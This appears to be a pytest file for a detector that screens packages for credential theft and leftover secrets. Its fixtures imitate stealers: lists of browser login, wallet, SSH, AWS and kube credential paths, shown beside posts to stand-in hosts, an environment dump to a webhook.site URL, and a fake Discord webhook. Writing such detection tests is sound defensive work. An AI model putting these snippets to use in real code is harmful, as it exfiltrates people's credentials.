"""Code that goes for credentials, and credentials left behind."""

import pytest

from sandboxes.screening.detectors import secrets
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

STEALER = (
    "import requests\nPLACES = ['Google/Chrome/User Data/Default/Login Data',\n 'wallet.dat',\n"
    " 'discord/Local Storage/leveldb']\ndef go(f):\n    requests.post('http://x.test', files=f)\n"
)
WEBHOOK = "https://discord.com/api/webhooks/123456789012345678/" + "a" * 60


@pytest.mark.parametrize(
    ("path", "text", "rule", "line", "threat"),
    [
        ("a.py", STEALER, "collect-and-send", 2, Threat.CRITICAL),
        ("a.js", "fetch('http://x')\nx = ['~/.ssh/id_rsa','~/.aws/credentials',\n'~/.npmrc', '~/.kube/config']",
         "collect-and-send", 2, Threat.CRITICAL),
        ("a.py", "import os, json\njson.dumps(dict(os.environ))\nU = 'https://webhook.site/x'",
         "collect-and-send", 3, Threat.CRITICAL),
        ("a.py", f"\nU = '{WEBHOOK}'", "collector", 2, Threat.HIGH),
        ("a.py", "\nA = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.netrc']", "places", 2, Threat.HIGH),
        ("a.py", "K = '''-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEow" * 40 + "\n'''", "left-behind", 1, Threat.MEDIUM),
        ("tests/a.py", "K = 'AKIA" + "QWERTYUIOPASDFGH'", "left-behind", 1, Threat.LOW),
    ],
)  # fmt: skip
def test_what_thieves_know(path: str, text: str, rule: str, line: int, threat: Threat) -> None:
    kind = Kind.NPM if path.endswith(".js") else Kind.WHEEL
    assert (f"secrets.{rule}", line, threat) in told(found_in(secrets, {path: text}, kind))


@pytest.mark.parametrize(
    "text",
    [
        "import requests, os\nA = '~/.aws/credentials'\nB = 'http://169.254.169.254/'\nrequests.get(B)",
        "import paramiko\nKEYS = ['~/.ssh/id_rsa', '~/.ssh/id_ed25519']",
        "import subprocess, os, socket\nsubprocess.run(['x'], env=os.environ)\ne = os.environ.copy()",
        "KEY = 'AKIAIOSFODNN7EXAMPLE'",
        "def webhook(request): ...",
        "text = 'the wallet of the user data'",
    ],
)
def test_what_one_good_tool_knows(text: str) -> None:
    assert told(found_in(secrets, {"a.py": text}), Threat.MEDIUM) == set()


def test_a_left_secret_is_not_repeated() -> None:
    secret = "ghp_" + "aB3" * 12
    (found,) = found_in(secrets, {"a.py": f"T = '{secret}'"})
    assert secret not in found.excerpt
    assert found.rule == "secrets.left-behind"
